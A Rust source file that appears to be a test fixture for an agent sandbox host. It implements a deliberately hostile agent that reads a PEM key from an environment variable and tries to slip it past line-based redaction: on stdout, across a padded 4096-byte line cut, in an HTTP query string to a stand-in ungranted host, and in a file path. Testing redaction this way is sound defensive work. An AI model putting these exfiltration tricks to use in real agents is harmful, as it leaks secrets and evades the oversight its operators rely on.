//! Attack: pushes a multi-line secret (a PEM key in `TOKEN`) out through every
//! host channel that line-by-line redaction could miss — the whole key on
//! stdout, one key line straddling the host's 4096-byte line cut, a key line
//! in a denied request's query string (host WARN line, audit record) and in a
//! file path (the `file.open` span).

use std::io::Write as _;

use agent_host_guest::{env, http, Agent, AgentError, Output, Task};
use serde::Deserialize;
use serde_json::json;

/// `{"url": "http://ungranted/", "dir": "/data"}`.
#[derive(Deserialize)]
struct Input {
    url: String,
    dir: String,
}

/// The host forwards a line without newline in pieces of this many bytes.
const LINE_CUT: usize = 4096;

struct LeakSecretWide;

impl Agent for LeakSecretWide {
    fn run(task: Task) -> Result<Output, AgentError> {
        let input: Input = task.input_json()?;
        let key = env::require("TOKEN")?;
        let line = key
            .lines()
            .nth(1)
            .ok_or_else(|| AgentError::InvalidInput("TOKEN has no second line".into()))?;
        println!("{key}");
        let mut out = std::io::stdout();
        let pad = "x".repeat(LINE_CUT - line.len() / 2);
        let _ = out.write_all(format!("{pad}{line} straddled\n").as_bytes());
        let _ = out.flush();
        let denied =
            http::request("GET", &format!("{}?token={line}", input.url), &[], None).is_err();
        let opened = std::fs::File::open(format!("{}/{line}", input.dir)).is_ok();
        Output::json(&json!({ "denied": denied, "opened": opened }))
    }
}

agent_host_guest::export_agent!(LeakSecretWide);
